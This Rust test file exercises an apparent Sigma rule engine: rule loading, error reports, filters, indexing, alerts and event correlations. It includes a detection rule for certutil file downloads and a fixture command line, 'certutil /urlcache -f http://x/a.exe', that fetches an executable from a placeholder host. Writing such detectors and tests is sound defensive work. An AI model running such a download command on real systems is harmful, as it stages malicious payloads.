//! Rule loading, reports, filters, the candidate index, alerts and correlations, with rules
//! and events built in the test.

use mamori_core::{Event, Severity, Timestamp};
use mamori_sigma::{
    Correlator, Document, Limits, LoadOptions, Outcome, RuleEngine, RuleError, RuleSet,
    RuleSetBuilder,
};

const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";

fn sysmon(code: i64, fields: &[(&str, &str)]) -> Event {
    let mut e = Event::new(Timestamp::from_unix_secs(1_700_000_000), "windows.sysmon");
    e.set("event.code", code.to_string())
        .set("winlog.channel", SYSMON)
        .set("host.name", "PC-1");
    for (k, v) in fields {
        e.set(format!("winlog.event_data.{k}"), *v);
    }
    e
}

fn security(at: i64, code: i64, fields: &[(&str, &str)]) -> Event {
    let mut e = Event::new(Timestamp::from_unix_secs(at), "windows.security");
    e.set("event.code", code).set("winlog.channel", "Security");
    for (k, v) in fields {
        e.set(format!("winlog.event_data.{k}"), *v);
    }
    e
}

const PROC_RULE: &str = r#"
title: Suspicious Certutil Download
id: 0e1f5bd2-0000-4000-8000-000000000001
name: certutil_download
status: test
description: certutil used to fetch a file
references: [https://example.invalid/certutil]
level: high
tags: [attack.command-and-control, attack.t1105, attack.defense-evasion]
falsepositives: [admin scripts]
logsource: {product: windows, category: process_creation}
detection:
  selection_img:
    - Image|endswith: '\certutil.exe'
    - OriginalFileName: 'CertUtil.exe'
  selection_cli:
    CommandLine|contains|windash: ['-urlcache', '-verifyctl']
  filter_optional_admin:
    User: 'CORP\admin'
  condition: all of selection_* and not 1 of filter_optional_*
"#;

#[test]
fn rule_metadata_and_match() {
    let (set, report) = RuleSet::load_str(PROC_RULE, "certutil.yml");
    assert_eq!(report.loaded(), 1, "{:?}", report.entries);
    let r = &set.rules()[0];
    assert_eq!(r.severity, Severity::High);
    assert_eq!(r.techniques, vec!["T1105"]);
    assert_eq!(r.tactics, vec!["Command and Control", "Defense Evasion"]);
    assert_eq!(r.falsepositives, vec!["admin scripts"]);
    assert_eq!(r.references.len(), 1);

    let hit = sysmon(
        1,
        &[
            ("Image", "C:\\Windows\\System32\\certutil.exe"),
            ("CommandLine", "certutil /urlcache -f http://x/a.exe"),
        ],
    );
    assert_eq!(set.matches(&hit).count(), 1);
    // Filtered user.
    let mut filtered = hit.clone();
    filtered.set("winlog.event_data.User", "corp\\ADMIN");
    assert_eq!(set.matches(&filtered).count(), 0);
    // Same fields but Sysmon EventID 7 (image load) is not process creation.
    let mut wrong_id = hit.clone();
    wrong_id.set("event.code", "7");
    assert_eq!(set.matches(&wrong_id).count(), 0);
    // Security 4688 with ECS process fields is process creation too.
    let mut e4688 = Event::new(Timestamp::EPOCH, "windows.security");
    e4688
        .set("event.code", 4688)
        .set("winlog.channel", "security")
        .set("process.executable", "C:\\Windows\\System32\\CERTUTIL.EXE")
        .set("process.command_line", "certutil -verifyctl -f");
    assert_eq!(set.matches(&e4688).count(), 1);
    // Not a Windows dataset.
    let mut other = hit.clone();
    other.dataset = "sshd".into();
    assert_eq!(set.matches(&other).count(), 0);

    let alert = set.to_alert(r, &hit);
    assert_eq!(alert.rule_id, "sigma.0e1f5bd2-0000-4000-8000-000000000001");
    assert_eq!(alert.severity, Severity::High);
    assert!(alert.message.contains("Suspicious Certutil Download"));
    assert!(
        alert.message.contains("certutil /urlcache"),
        "{}",
        alert.message
    );
    assert_eq!(alert.host_name.as_deref(), Some("PC-1"));
    assert_eq!(alert.ruleset, mamori_core::Ruleset::Sigma);
    let j = alert.to_event().to_json();
    assert_eq!(j["threat"]["technique"]["id"][0], "T1105");
}

#[test]
fn load_errors_name_file_line_and_reason() {
    let yaml = "title: Bad\nlogsource: {product: windows, service: security}\ndetection:\n  sel:\n    TargetUserName|containz: x\n  condition: sel\n";
    let (set, report) = RuleSet::load_str(yaml, "bad.yml");
    assert!(set.rules().is_empty());
    let e = &report.entries[0];
    assert_eq!(e.file, "bad.yml");
    assert_eq!(e.line, Some(5));
    assert!(
        matches!(&e.outcome, Outcome::Error(RuleError::UnknownModifier { modifier, .. }) if modifier == "containz")
    );
    assert_eq!(report.counters.get("unknown_modifier"), 1);

    // YAML syntax error: the parser's position.
    let (_, report) = RuleSet::load_str("title: x\ndetection: [\n  a: b\n", "broken.yml");
    let e = &report.entries[0];
    assert!(matches!(e.outcome, Outcome::Error(RuleError::Yaml { .. })));
    assert!(e.line.is_some_and(|l| l >= 2), "{:?}", e.line);

    // Bad condition: points at the condition line.
    let yaml = "title: C\nlogsource: {product: windows}\ndetection:\n  sel: {EventID: 1}\n  condition: sel and nothing\n";
    let (_, report) = RuleSet::load_str(yaml, "cond.yml");
    assert_eq!(report.entries[0].line, Some(5));
    assert_eq!(report.counters.get("bad_condition"), 1);

    // Missing detection, unsupported log source, garbage and truncated documents.
    let (_, report) = RuleSet::load_str("title: x\nlogsource: {product: windows}\n", "nodet.yml");
    assert!(matches!(
        report.entries[0].outcome,
        Outcome::Error(RuleError::Missing { .. })
    ));
    let (_, report) = RuleSet::load_str(
        "title: x\nlogsource: {product: aws, service: cloudtrail}\ndetection: {sel: {a: b}, condition: sel}\n",
        "aws.yml",
    );
    assert_eq!(report.unsupported(), 1);
    assert_eq!(
        report.per_product.get("aws").map(|c| c.unsupported),
        Some(1)
    );
    assert_eq!(report.counters.get("unsupported_logsource"), 1);
    for garbage in ["\u{0}\u{1}\u{2}", "- - - [", "title: [", "42", "detection:"] {
        let (set, _) = RuleSet::load_str(garbage, "garbage.yml");
        assert!(set.rules().is_empty());
    }
}

#[test]
fn multi_document_files_and_later_documents_keep_loading() {
    let yaml = format!("{PROC_RULE}\n---\ntitle: broken\nlogsource: {{product: windows}}\ndetection: {{condition: x}}\n---\ntitle: Second\nid: 22222222-0000-4000-8000-000000000002\nlogsource: {{product: windows, service: security}}\ndetection:\n  sel: {{EventID: 1102}}\n  condition: sel\n");
    let (set, report) = RuleSet::load_str(&yaml, "multi.yml");
    assert_eq!(report.loaded(), 2);
    assert_eq!(report.errors(), 1);
    assert_eq!(report.entries[1].doc, 1);
    assert!(set.rule("22222222-0000-4000-8000-000000000002").is_some());
    assert!(set.rule("certutil_download").is_some());
}

#[test]
fn index_picks_candidates_by_channel_and_event_id() {
    let yaml = "title: Log cleared\nid: a\nlogsource: {product: windows, service: security}\ndetection:\n  sel: {EventID: 1102}\n  condition: sel\n---\ntitle: Any security\nid: b\nlogsource: {product: windows, service: security}\ndetection:\n  sel: {SubjectUserName: x}\n  condition: sel\n---\ntitle: sshd\nid: c\nlogsource: {product: linux, service: sshd}\ndetection:\n  keywords: ['Failed password']\n  condition: keywords\n";
    let (set, report) = RuleSet::load_str(yaml, "idx.yml");
    assert_eq!(report.loaded(), 3);
    let e = security(0, 1102, &[]);
    // Rule b needs SubjectUserName to contain "x": the pre-filter leaves it out.
    assert_eq!(set.candidates(&e), vec![0]);
    assert_eq!(
        set.matches(&e).map(|r| r.id.as_str()).collect::<Vec<_>>(),
        vec!["a"]
    );
    let e = security(0, 1102, &[("SubjectUserName", "X")]);
    assert_eq!(set.candidates(&e), vec![0, 1]);
    assert_eq!(set.matches(&e).count(), 2);
    let e = security(0, 4624, &[("SubjectUserName", "x")]);
    assert_eq!(set.candidates(&e), vec![1]);
    let mut s = Event::new(Timestamp::EPOCH, "sshd");
    s.set("message", "Failed password for root from 10.0.0.1");
    assert_eq!(set.candidates(&s), vec![2]);
    assert_eq!(set.matches(&s).count(), 1);
    assert_eq!(s.channel(), None);
}

#[test]
fn filters_exclude_by_rule_id_and_by_logsource() {
    let filter = "title: Exclude admin\nlogsource: {product: windows, category: process_creation}\nfilter:\n  rules: [certutil_download]\n  selection:\n    ParentImage|endswith: '\\deploy.exe'\n  condition: not selection\n";
    let yaml = format!("{PROC_RULE}\n---\n{filter}");
    let (set, report) = RuleSet::load_str(&yaml, "filter.yml");
    assert_eq!(report.loaded(), 1);
    assert!(report
        .entries
        .iter()
        .any(|e| e.outcome == Outcome::LoadedFilter));
    let base = [
        ("Image", "C:\\certutil.exe"),
        ("CommandLine", "certutil -urlcache"),
    ];
    assert_eq!(set.matches(&sysmon(1, &base)).count(), 1);
    let mut excluded = sysmon(1, &base);
    excluded.set("winlog.event_data.ParentImage", "C:\\tools\\deploy.exe");
    assert_eq!(set.matches(&excluded).count(), 0);

    // Unknown rule names are counted, not fatal.
    let (_, report) = RuleSet::load_str(
        "title: f\nlogsource: {product: windows}\nfilter:\n  rules: [nope]\n  sel: {a: b}\n  condition: not sel\n",
        "f.yml",
    );
    assert_eq!(report.counters.get("filter_unknown_rule"), 1);
}

#[test]
fn expand_placeholders_from_options() {
    let yaml = "title: Admin logon\nid: p\nlogsource: {product: windows, service: security}\ndetection:\n  sel:\n    EventID: 4624\n    TargetUserName|expand: '%admins%'\n  condition: sel\n";
    let (_, report) = RuleSet::load_str(yaml, "p.yml");
    assert_eq!(report.counters.get("unresolved_placeholder"), 1);
    assert_eq!(report.entries[0].line, Some(7));
    let mut opts = LoadOptions::default();
    opts.placeholders
        .insert("admins".into(), vec!["root".into(), "Administrator".into()]);
    let mut b = RuleSetBuilder::new(opts);
    b.add_str(yaml, "p.yml");
    let (set, report) = b.build();
    assert_eq!(report.loaded(), 1);
    assert_eq!(
        set.matches(&security(0, 4624, &[("TargetUserName", "administrator")]))
            .count(),
        1
    );
    assert_eq!(
        set.matches(&security(0, 4624, &[("TargetUserName", "bob")]))
            .count(),
        0
    );
}

const FAILED_LOGON: &str = "title: Failed logon\nid: f1\nname: failed_logon\nlogsource: {product: windows, service: security}\ndetection:\n  sel: {EventID: 4625}\n  condition: sel\n";
const OK_LOGON: &str = "title: Logon\nid: s1\nname: successful_logon\nlogsource: {product: windows, service: security}\ndetection:\n  sel: {EventID: 4624}\n  condition: sel\n";

fn corr(body: &str) -> RuleSet {
    let yaml = format!("{FAILED_LOGON}---\n{OK_LOGON}---\n{body}");
    let (set, report) = RuleSet::load_str(&yaml, "corr.yml");
    assert_eq!(report.errors(), 0, "{:?}", report.entries);
    assert_eq!(set.correlations().len(), 1);
    set
}

fn feed(set: &RuleSet, c: &mut Correlator, e: &Event) -> usize {
    let matched: Vec<_> = set.matches(e).collect();
    c.process(set.correlations(), e, e.timestamp, matched).len()
}

#[test]
fn event_count_window_edges_and_group_by() {
    let set = corr("title: Brute force\nid: bf\nlevel: high\ncorrelation:\n  type: event_count\n  rules: [failed_logon]\n  group-by: [TargetUserName]\n  timespan: 10s\n  condition: {gte: 3}\n");
    let mut c = Correlator::new();
    let u = |at, user| security(at, 4625, &[("TargetUserName", user)]);
    // N-1 events: nothing.
    assert_eq!(feed(&set, &mut c, &u(100, "alice")), 0);
    assert_eq!(feed(&set, &mut c, &u(105, "alice")), 0);
    // Another group does not count.
    assert_eq!(feed(&set, &mut c, &u(106, "bob")), 0);
    // Third event exactly at the timespan boundary (100 + 10) still counts.
    let matched: Vec<_> = set.matches(&u(110, "alice")).collect();
    let hits = c.process(
        set.correlations(),
        &u(110, "alice"),
        Timestamp::from_unix_secs(110),
        matched,
    );
    assert_eq!(hits.len(), 1);
    assert_eq!(
        hits[0].group,
        vec![("TargetUserName".to_string(), "alice".to_string())]
    );
    assert_eq!(hits[0].value, 3.0);
    assert_eq!(hits[0].first, Timestamp::from_unix_secs(100));
    let alert = set.correlation_alert(&hits[0]).unwrap();
    assert_eq!(alert.severity, Severity::High);
    assert!(
        alert.message.contains("TargetUserName=alice"),
        "{}",
        alert.message
    );
    // Just past the boundary: the first event has left the window.
    let mut c = Correlator::new();
    feed(&set, &mut c, &u(100, "carol"));
    feed(&set, &mut c, &u(105, "carol"));
    assert_eq!(feed(&set, &mut c, &u(111, "carol")), 0);
    assert_eq!(feed(&set, &mut c, &u(112, "carol")), 1);
    // Base rules of a generate:false correlation do not alert on their own.
    assert!(!set.rule("failed_logon").unwrap().generate);
    assert!(set.rule("successful_logon").unwrap().generate);
}

#[test]
fn out_of_order_within_lateness_counts_and_late_events_are_dropped() {
    let set = corr("title: BF\nid: bf\ncorrelation:\n  type: event_count\n  rules: [failed_logon]\n  group-by: [TargetUserName]\n  timespan: 10s\n  condition: {gte: 3}\n");
    let mut c = Correlator::with_limits(Limits {
        lateness: mamori_core::Duration::from_secs(30),
        ..Limits::default()
    });
    let u = |at| security(at, 4625, &[("TargetUserName", "alice")]);
    assert_eq!(feed(&set, &mut c, &u(200)), 0);
    assert_eq!(feed(&set, &mut c, &u(208)), 0);
    // Arrives late (t=195) but within lateness; window [198..208] does not hold it with
    // 200 and 208 both... it is within [195, 205] with 200 only -> still 2; then 201 joins.
    assert_eq!(feed(&set, &mut c, &u(195)), 0);
    assert_eq!(feed(&set, &mut c, &u(201)), 1);
    // Far too late: dropped and counted.
    assert_eq!(feed(&set, &mut c, &u(100)), 0);
    assert_eq!(c.counters.get("correlation_late_event"), 1);
}

#[test]
fn value_count_temporal_ordered_and_sum() {
    let set = corr("title: Spray\nid: sp\ncorrelation:\n  type: value_count\n  rules: [failed_logon]\n  group-by: [IpAddress]\n  timespan: 1m\n  condition: {gte: 3, field: TargetUserName}\n");
    let mut c = Correlator::new();
    let e = |at, user| {
        security(
            at,
            4625,
            &[("TargetUserName", user), ("IpAddress", "10.0.0.9")],
        )
    };
    assert_eq!(feed(&set, &mut c, &e(0, "a")), 0);
    assert_eq!(feed(&set, &mut c, &e(1, "a")), 0);
    assert_eq!(feed(&set, &mut c, &e(2, "b")), 0);
    assert_eq!(feed(&set, &mut c, &e(3, "c")), 1);

    let set = corr("title: Success after failure\nid: saf\ngenerate: true\ncorrelation:\n  type: temporal_ordered\n  rules: [failed_logon, successful_logon]\n  group-by: [User]\n  aliases: {}\n  timespan: 5m\n");
    assert!(set.rule("failed_logon").unwrap().generate);
    let mut c = Correlator::new();
    let f = |at| security(at, 4625, &[("User", "x")]);
    let s = |at| security(at, 4624, &[("User", "x")]);
    // Wrong order does not fire.
    assert_eq!(feed(&set, &mut c, &s(0)), 0);
    assert_eq!(feed(&set, &mut c, &f(10)), 0);
    assert_eq!(feed(&set, &mut c, &s(20)), 1);

    let set = corr("title: Both\nid: both\ncorrelation:\n  type: temporal\n  rules: [failed_logon, successful_logon]\n  group-by: [User]\n  timespan: 5m\n");
    let mut c = Correlator::new();
    assert_eq!(feed(&set, &mut c, &s(0)), 0);
    assert_eq!(feed(&set, &mut c, &f(10)), 1);

    let set = corr("title: Bytes\nid: by\ncorrelation:\n  type: value_sum\n  rules: [failed_logon]\n  group-by: [User]\n  timespan: 5m\n  condition: {gt: 100, field: Bytes}\n");
    let mut c = Correlator::new();
    let b = |at, n| security(at, 4625, &[("User", "x"), ("Bytes", n)]);
    assert_eq!(feed(&set, &mut c, &b(0, "60")), 0);
    assert_eq!(feed(&set, &mut c, &b(1, "40")), 0);
    assert_eq!(feed(&set, &mut c, &b(2, "1")), 1);

    let set = corr("title: Range\nid: rg\ncorrelation:\n  type: event_count\n  rules: [failed_logon]\n  group-by: [User]\n  timespan: 5m\n  condition: {gte: 2, lte: 2}\n");
    let mut c = Correlator::new();
    assert_eq!(feed(&set, &mut c, &f(0)), 0);
    assert_eq!(feed(&set, &mut c, &f(1)), 1);
}

#[test]
fn aliases_group_different_fields() {
    let set = corr("title: Same IP\nid: al\ncorrelation:\n  type: temporal\n  rules: [failed_logon, successful_logon]\n  group-by: [ip]\n  aliases:\n    ip:\n      failed_logon: IpAddress\n      successful_logon: SourceAddress\n  timespan: 1m\n");
    let mut c = Correlator::new();
    assert_eq!(
        feed(
            &set,
            &mut c,
            &security(0, 4625, &[("IpAddress", "10.0.0.1")])
        ),
        0
    );
    assert_eq!(
        feed(
            &set,
            &mut c,
            &security(1, 4624, &[("SourceAddress", "10.0.0.2")])
        ),
        0
    );
    assert_eq!(
        feed(
            &set,
            &mut c,
            &security(2, 4624, &[("SourceAddress", "10.0.0.1")])
        ),
        1
    );
}

#[test]
fn correlation_state_is_bounded() {
    let set = corr("title: BF\nid: bf\ncorrelation:\n  type: event_count\n  rules: [failed_logon]\n  group-by: [TargetUserName]\n  timespan: 1h\n  condition: {gte: 100}\n");
    let mut c = Correlator::with_limits(Limits {
        max_groups: 5,
        max_entries: 10,
        lateness: mamori_core::Duration::from_secs(60),
    });
    for i in 0..20 {
        let user = format!("u{i}");
        feed(
            &set,
            &mut c,
            &security(i, 4625, &[("TargetUserName", &user)]),
        );
    }
    assert_eq!(c.groups(0), 5);
    assert_eq!(c.counters.get("correlation_group_evicted"), 15);
    for i in 0..20 {
        feed(
            &set,
            &mut c,
            &security(100 + i, 4625, &[("TargetUserName", "same")]),
        );
    }
    assert!(c.counters.get("correlation_entry_dropped") >= 10);
}

#[test]
fn correlation_errors() {
    for (body, reason) in [
        ("title: x\ncorrelation:\n  type: event_count\n  rules: [nope]\n  group-by: [a]\n  timespan: 1m\n  condition: {gte: 1}\n", "unknown_reference"),
        ("title: x\ncorrelation:\n  type: median\n  rules: [failed_logon]\n  timespan: 1m\n", "unsupported_feature"),
        ("title: x\ncorrelation:\n  type: event_count\n  rules: [failed_logon]\n  timespan: soon\n  condition: {gte: 1}\n", "bad_value"),
        ("title: x\ncorrelation:\n  type: value_count\n  rules: [failed_logon]\n  timespan: 1m\n  condition: {gte: 1}\n", "missing_key"),
        ("title: x\ncorrelation:\n  type: event_count\n  rules: [failed_logon]\n  timespan: 1m\n  condition: {between: 1}\n", "bad_value"),
    ] {
        let yaml = format!("{FAILED_LOGON}---\n{body}");
        let (_, report) = RuleSet::load_str(&yaml, "c.yml");
        assert_eq!(report.counters.get(reason), 1, "{body}: {:?}", report.counters);
    }
}

#[test]
fn engine_trait_emits_rule_and_correlation_alerts() {
    let yaml = format!("{FAILED_LOGON}---\n{OK_LOGON}---\ntitle: BF\nid: bf\ncorrelation:\n  type: event_count\n  rules: [failed_logon]\n  group-by: [TargetUserName]\n  timespan: 1m\n  condition: {{gte: 2}}\n");
    let (set, _) = RuleSet::load_str(&yaml, "e.yml");
    let engine: &dyn RuleEngine = &set;
    let mut c = Correlator::new();
    let f = security(0, 4625, &[("TargetUserName", "a")]);
    assert_eq!(engine.matching_rules(&f), vec![0]);
    // failed_logon is used only by a generate:false correlation: no alert of its own.
    assert!(engine.alerts(&mut c, &f).is_empty());
    let alerts = engine.alerts(&mut c, &security(1, 4625, &[("TargetUserName", "a")]));
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].rule_id, "sigma.bf");
    let ok = engine.alerts(&mut c, &security(2, 4624, &[]));
    assert_eq!(ok.len(), 1);
    assert_eq!(ok[0].rule_id, "sigma.s1");
}

#[test]
fn load_dir_reads_nested_files_and_skips_others() {
    let dir = std::env::temp_dir().join(format!("mamori-sigma-test-{}", std::process::id()));
    let sub = dir.join("windows/security");
    std::fs::create_dir_all(&sub).unwrap();
    std::fs::write(sub.join("a.yml"), FAILED_LOGON).unwrap();
    std::fs::write(dir.join("b.yaml"), OK_LOGON).unwrap();
    std::fs::write(dir.join("notes.txt"), "not a rule").unwrap();
    std::fs::write(dir.join("bad.yml"), [0xff, 0xfe, 0x00]).unwrap();
    let (set, report) = RuleSet::load_dir(&dir);
    std::fs::remove_dir_all(&dir).ok();
    assert_eq!(set.rules().len(), 2);
    assert_eq!(report.counters.get("not_utf8"), 1);
    let (set, report) = RuleSet::load_dir("/nonexistent/mamori/sigma");
    assert!(set.rules().is_empty());
    assert_eq!(report.counters.get("io_error"), 1);
}

#[test]
fn extreme_timestamps_do_not_panic() {
    let set = corr("title: BF\nid: bf\ncorrelation:\n  type: event_count\n  rules: [failed_logon]\n  group-by: [TargetUserName]\n  timespan: 10s\n  condition: {gte: 2}\n");
    let mut c = Correlator::new();
    for ns in [i64::MIN, i64::MIN + 1, -1, 0, i64::MAX - 1, i64::MAX] {
        let mut e = security(0, 4625, &[("TargetUserName", "a")]);
        e.timestamp = Timestamp::from_unix_nanos(ns);
        let matched: Vec<_> = set.matches(&e).collect();
        let hits = c.process(set.correlations(), &e, e.timestamp, matched);
        for h in &hits {
            assert!(set.correlation_alert(h).is_some());
        }
    }
}
